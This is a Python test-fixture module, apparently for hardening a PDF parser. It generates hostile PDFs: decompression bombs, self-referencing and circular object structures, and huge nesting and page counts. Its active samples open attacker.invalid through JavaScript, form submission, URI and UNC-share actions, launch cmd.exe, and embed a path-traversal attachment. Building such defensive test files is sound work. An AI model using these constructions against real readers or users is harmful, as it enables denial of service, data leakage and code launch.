"""PDFs that unpack, nest, count or lead in circles without measure, and such as carry something active."""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable, Iterator
from io import BytesIO

import pypdf
from reportlab.pdfgen.canvas import Canvas

from tests.hostile.files import DAMAGED, EMPTY, HAS_TEXT, LARGE, LOCKED, MEBIBYTE, PARTLY, READ, Hostile, zlib_bomb

Objects = dict[int, bytes]
HELVETICA = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>"
NO_END_OF_TEXT = frozenset({READ, PARTLY, EMPTY, DAMAGED, LARGE})


def hostile_pdfs() -> Iterator[Hostile]:
    """One file for each trick."""
    for threat, tricks in (("T1", UNPACKING), ("T2", COUNTING), ("T3", ROUND)):
        for name, make in tricks.items():
            yield Hostile(f"{name}.pdf", threat, make(), NO_END_OF_TEXT)
    for name, (make, says) in ACTIVE.items():
        yield Hostile(f"{name}.pdf", "T11", make(), HAS_TEXT, says)
    yield Hostile("a password.pdf", "T11", _encrypted(), frozenset({LOCKED}), "password")
    yield Hostile("a cipher nobody knows.pdf", "T11", _with_a_strange_cipher(), frozenset({LOCKED, DAMAGED}))


def good_pdf(words: str = "Minutes of the improvement board, 3 March 2026 (synthetic)", pages: int = 1) -> bytes:
    """A sound PDF."""
    content = BytesIO()
    canvas = Canvas(content, invariant=True)
    for number in range(pages):
        canvas.drawString(60, 780, f"{words}, page {number + 1}")
        canvas.showPage()
    canvas.save()
    return content.getvalue()


def written(objects: Objects, *, trailer: bytes = b"") -> bytes:
    """A PDF of these objects with a table of where they are."""
    body, places = bytearray(b"%PDF-1.7\n"), {}
    for number, held in objects.items():
        places[number] = len(body)
        body += b"%d 0 obj\n%s\nendobj\n" % (number, held)
    last = max(objects) + 1
    start = len(body)
    body += b"xref\n0 %d\n0000000000 65535 f \n" % last
    for number in range(1, last):
        body += b"%010d 00000 n \n" % places[number] if number in places else b"0000000000 00000 f \n"
    return bytes(body + b"trailer <</Root 1 0 R/Size %d%s>>\nstartxref\n%d\n%%%%EOF\n" % (last, trailer, start))


def stream(content: bytes, entries: bytes = b"") -> bytes:
    """A stream object."""
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(content), entries, content)


def one_page(
    content: bytes, *, resources: bytes = b"", page: bytes = b"", catalogue: bytes = b"", more: Objects | None = None
) -> bytes:
    """A document of one page around a content stream, with further objects from 5 on."""
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalogue,
            2: b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            3: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 600 800]/Contents 4 0 R"
            b"/Resources<</Font<</F1 %s>>%s>>%s>>" % (HELVETICA, resources, page),
            4: content,
            **(more or {}),
        }
    )


def words_stream() -> bytes:
    """The drawing of one line of words."""
    return stream(b"BT /F1 12 Tf 50 700 Td (Synthetic minutes of 3 March 2026) Tj ET")


def _unpacking(content: bytes, filters: bytes) -> bytes:
    return one_page(stream(content, b"/Filter[%s]" % filters))


def _flate_bomb() -> bytes:
    return _unpacking(zlib_bomb(b" " * MEBIBYTE, 1024), b"/FlateDecode")


def _flate_bomb_of_words() -> bytes:
    line = b"BT /F1 12 Tf 50 700 Td (All of it synthetic) Tj ET\n"
    return _unpacking(zlib_bomb(line * (MEBIBYTE // len(line)), 300), b"/FlateDecode")


def _flate_in_flate() -> bytes:
    inner = zlib_bomb(b" " * MEBIBYTE, 1024)
    return _unpacking(zlib.compress(zlib.compress(inner)), b"/FlateDecode/FlateDecode/FlateDecode")


def _run_length() -> bytes:
    return _unpacking(b"\x81 " * (2 * MEBIBYTE) + b"\x80", b"/RunLengthDecode")


def _hex_around_flate() -> bytes:
    inner = zlib_bomb(b" " * MEBIBYTE, 512)
    return _unpacking(inner.hex().encode() + b">", b"/ASCIIHexDecode/FlateDecode")


def _ascii85_around_flate() -> bytes:
    inner = zlib_bomb(b" " * MEBIBYTE, 512)
    return _unpacking(base64.a85encode(inner, adobe=True)[2:], b"/ASCII85Decode/FlateDecode")


def _thousand_filters() -> bytes:
    return _unpacking(b"00>", b"/ASCIIHexDecode" * 1000)


def _predictor() -> bytes:
    content = zlib_bomb(bytes(MEBIBYTE), 64)
    return one_page(stream(content, b"/Filter/FlateDecode/DecodeParms<</Predictor 15/Columns 1/Colors 1>>"))


def _font_map_bomb() -> bytes:
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>"
    more = {
        5: font,
        6: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(I)/Supplement 0>>>>",
        7: stream(zlib_bomb(b"<0000> <0041>\n" * 70_000, 500), b"/Filter/FlateDecode"),
    }
    return one_page(stream(b"BT /F2 12 Tf <00000001> Tj ET"), resources=b"/X 1", more=more).replace(
        b"/Font<</F1", b"/Font<</F2 5 0 R/F1"
    )


def _range_of_characters() -> bytes:
    ranges = b"begincmap 1 beginbfrange <00000000> <7fffffff> <00000041> endbfrange endcmap"
    font = b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[6 0 R]/ToUnicode 7 0 R>>"
    more = {5: font, 6: b"<</Type/Font/Subtype/CIDFontType2/BaseFont/A>>", 7: stream(ranges)}
    return one_page(stream(b"BT /F2 12 Tf <00000001> Tj ET"), more=more).replace(b"/Font<</F1", b"/Font<</F2 5 0 R/F1")


def _scan_of_four_thousand_million_points() -> bytes:
    picture = stream(
        zlib_bomb(bytes(MEBIBYTE), 512),
        b"/Type/XObject/Subtype/Image/Width 65535/Height 65535/BitsPerComponent 1/ColorSpace/DeviceGray"
        b"/Filter/FlateDecode",
    )
    return one_page(stream(b"q 600 0 0 800 0 0 cm /I Do Q"), resources=b"/XObject<</I 5 0 R>>", more={5: picture})


UNPACKING: dict[str, Callable[[], bytes]] = {
    "a gigabyte of blanks": _flate_bomb,
    "300 MB of the same words": _flate_bomb_of_words,
    "a gigabyte packed three times": _flate_in_flate,
    "run lengths of 256 MB": _run_length,
    "hexadecimal around 512 MB": _hex_around_flate,
    "base 85 around 512 MB": _ascii85_around_flate,
    "a thousand filters": _thousand_filters,
    "a predictor over 64 MB": _predictor,
    "a font's map of 500 MB": _font_map_bomb,
    "a scan of four thousand million points": _scan_of_four_thousand_million_points,
}


def _shared_kids() -> bytes:
    """Sixteen levels, each naming the next ten times."""
    objects: Objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for level in range(16):
        kids = b"%d 0 R " % (level + 3) * 10
        objects[level + 2] = b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, 10 ** (16 - level))
    objects[18] = b"<</Type/Page/Parent 17 0 R/MediaBox[0 0 9 9]/Contents 19 0 R/Resources<</Font<</F1 %s>>>>>>" % (
        HELVETICA
    )
    return written({**objects, 19: words_stream()})


def _deep_tree(levels: int = 20_000) -> bytes:
    objects: Objects = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for number in range(2, levels):
        objects[number] = b"<</Type/Pages/Kids[%d 0 R]/Count 1>>" % (number + 1)
    return written({**objects, levels: b"<</Type/Page/MediaBox[0 0 9 9]>>"})


def _forms_in_forms() -> bytes:
    """Twelve levels, each drawing the next ten times."""
    form = b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X %d 0 R>>>>"
    more = {number: stream(b"/X Do " * 10, form % (number + 1)) for number in range(5, 17)}
    more[17] = stream(b"BT (a) Tj ET", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 5 0 R>>", more=more)


def _form_in_itself() -> bytes:
    itself = stream(b"/X Do " * 10, b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</X 5 0 R>>>>")
    return one_page(stream(b"/X Do"), resources=b"/XObject<</X 5 0 R>>", more={5: itself})


def _letters_that_draw_themselves() -> bytes:
    letter = stream(b"1000 0 d0 BT /F2 1 Tf (aaaaaaaaaa) Tj ET")
    font = (
        b"<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>"
        b"/Encoding<</Differences[97/a]>>/FirstChar 97/LastChar 97/Widths[9]/Resources<</Font<</F2 5 0 R>>>>>>"
    )
    return one_page(stream(b"BT /F2 12 Tf (aaaa) Tj ET"), more={5: font, 6: letter}).replace(
        b"/Font<</F1", b"/Font<</F2 5 0 R/F1"
    )


def _contents_a_hundred_thousand_times() -> bytes:
    return one_page(words_stream()).replace(b"/Contents 4 0 R", b"/Contents[%s]" % (b"4 0 R " * 99_000))


def _size_of_two_thousand_million() -> bytes:
    entries = b"/Type/XRef/Root 1 0 R/Size 2147483647/Index[0 2147483647]/W[1 8 8]/Filter/FlateDecode"
    body = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
    table = stream(zlib_bomb(bytes(MEBIBYTE), 256), entries)
    return body + b"9 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (table, len(body))


COUNTING: dict[str, Callable[[], bytes]] = {
    "ten thousand million million pages": _shared_kids,
    "two thousand million pages said": lambda: one_page(words_stream()).replace(b"/Count 1", b"/Count 2000000000"),
    "minus one page": lambda: one_page(words_stream()).replace(b"/Count 1", b"/Count -1"),
    "pages 20,000 levels deep": _deep_tree,
    "forms a million million times": _forms_in_forms,
    "a form that draws itself": _form_in_itself,
    "letters that draw themselves": _letters_that_draw_themselves,
    "a range of two thousand million characters": _range_of_characters,
    "the same contents a hundred thousand times": _contents_a_hundred_thousand_times,
    "a table of two thousand million objects": _size_of_two_thousand_million,
    "brackets without end": lambda: one_page(stream(b"[" * 500_000)),
    "dictionaries without end": lambda: one_page(words_stream(), page=b"/A " + b"<</A" * 100_000),
    "a number of a million digits": lambda: one_page(words_stream(), page=b"/A " + b"9" * 1_000_000),
    "a name of five million letters": lambda: one_page(stream(b"BT /" + b"a" * 5_000_000 + b" 12 Tf ET")),
    "brackets in a string without end": lambda: one_page(stream(b"BT " + b"(" * 1_000_000)),
    "an inline picture without end": lambda: one_page(stream(b"BI /W 9999999 /H 9999999 ID " + b"E I " * 500_000)),
    "states saved without end": lambda: one_page(stream(b"q " * 1_000_000)),
    "a page as large as the sea": lambda: one_page(words_stream()).replace(b"600 800", b"1000000000 1000000000"),
    "a page of no size": lambda: one_page(words_stream()).replace(b"600 800", b"0 0"),
}


def _kids_in_a_circle() -> bytes:
    return written(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[3 0 R 3 0 R]/Count 2>>",
            3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 2>>",
        }
    )


def _previous_table_is_this_one() -> bytes:
    content = one_page(words_stream())
    start = content.rindex(b"xref\n0 ", 0, content.rindex(b"startxref"))
    return content.replace(b"trailer <<", b"trailer <</Prev %d" % start)


def _previous_tables_in_a_circle() -> bytes:
    empty = b"xref\n0 0\ntrailer <</Root 1 0 R/Size 9/Prev %d>>\n"
    body = b"%PDF-1.7\n1 0 obj <</Type/Catalog/Pages 2 0 R>> endobj\n"
    first, length = len(body), len(empty % 1000)
    tables = (empty % (first + length)).ljust(length, b" ") + empty % first
    return body + tables + b"startxref\n%d\n%%%%EOF\n" % first


def _objects_packed_in_themselves() -> bytes:
    packed = stream(b"5 0 6 0 7 0 <</Type/ObjStm>>", b"/Type/ObjStm/N 3/First 12/Extends 9 0 R")
    body = b"%PDF-1.7\n"
    body += b"9 0 obj\n" + packed + b"\nendobj\n"
    rows = [(0, 0, 255), (2, 9, 0), (2, 9, 1), (2, 9, 2), *[(2, 9, 0)] * 5, (2, 9, 0), (1, len(body), 0)]
    table = b"".join(struct.pack(">BHB", *row) for row in rows)
    entries = b"/Type/XRef/Root 1 0 R/Size 11/W[1 2 1]"
    return body + b"10 0 obj\n%s\nendobj\nstartxref\n%d\n%%%%EOF\n" % (stream(table, entries), len(body))


def _outline_in_a_circle() -> bytes:
    more = {
        5: b"<</Type/Outlines/First 6 0 R/Last 7 0 R/Count 2>>",
        6: b"<</Title(a)/Parent 5 0 R/Next 7 0 R/First 5 0 R>>",
        7: b"<</Title(b)/Parent 5 0 R/Next 6 0 R/First 6 0 R>>",
    }
    return one_page(words_stream(), catalogue=b"/Outlines 5 0 R", more=more)


def _references_in_a_row() -> bytes:
    more = {number: b"%d 0 R" % (number + 1) for number in range(5, 50_000)}
    return one_page(words_stream(), page=b"/Annots 5 0 R", more={**more, 50_000: b"5 0 R"})


ROUND: dict[str, Callable[[], bytes]] = {
    "pages in a circle": _kids_in_a_circle,
    "a table before itself": _previous_table_is_this_one,
    "tables before one another": _previous_tables_in_a_circle,
    "objects packed in themselves": _objects_packed_in_themselves,
    "an outline in a circle": _outline_in_a_circle,
    "a length that is its own length": lambda: one_page(
        b"<</Length 4 0 R>>\nstream\nBT ET\nendstream", more={5: b"5 0 R"}
    ),
    "a parent that is its own child": lambda: one_page(words_stream()).replace(b"/Parent 2 0 R", b"/Parent 3 0 R"),
    "a page that is its own contents": lambda: one_page(words_stream()).replace(b"/Contents 4 0 R", b"/Contents 3 0 R"),
    "references in a row of fifty thousand": _references_in_a_row,
    "a catalogue of itself": lambda: one_page(words_stream()).replace(b"/Pages 2 0 R", b"/Pages 1 0 R"),
    "labels in a circle": lambda: one_page(
        words_stream(), catalogue=b"/PageLabels 5 0 R", more={5: b"<</Kids[5 0 R 5 0 R]/Nums[0 5 0 R]>>"}
    ),
}


def _with_files_inside() -> bytes:
    writer = pypdf.PdfWriter(clone_from=BytesIO(good_pdf()))
    writer.add_attachment("../../../../tmp/owned.exe", b"MZ synthetic")
    return _saved(writer)


def _opening(action: bytes) -> Callable[[], bytes]:
    return lambda: one_page(words_stream(), catalogue=b"/OpenAction" + action)


ACTIVE: dict[str, tuple[Callable[[], bytes], str]] = {
    "a script when it opens": (
        _opening(b"<</S/JavaScript/JS(app.launchURL\\('http://attacker.invalid/'\\);)>>"),
        "JavaScript",
    ),
    "a program to launch": (_opening(b"<</S/Launch/F(cmd.exe)/Win<</F(cmd.exe)/P(/c calc)>>>>"), "starts a program"),
    "files inside": (_with_files_inside, "embedded files"),
    "a form to send home": (_opening(b"<</S/SubmitForm/F(http://attacker.invalid/)>>"), ""),
    "a page to fetch": (_opening(b"<</S/URI/URI(http://attacker.invalid/)>>"), ""),
    "a file on a share": (_opening(rb"<</S/GoToR/F(\\\\attacker.invalid\\share\\a.pdf)/D[0/Fit]>>"), ""),
}


def _encrypted() -> bytes:
    writer = pypdf.PdfWriter(clone_from=BytesIO(good_pdf()))
    writer.encrypt("synthetic", algorithm="AES-256")
    return _saved(writer)


def _with_a_strange_cipher() -> bytes:
    return one_page(words_stream()).replace(
        b"trailer <<", b"trailer <</Encrypt<</Filter/Nobody/V 99/R 99/O(a)/U(b)/P -1>>/ID[(a)(b)]"
    )


def _saved(writer: pypdf.PdfWriter) -> bytes:
    content = BytesIO()
    writer.write(content)
    return content.getvalue()
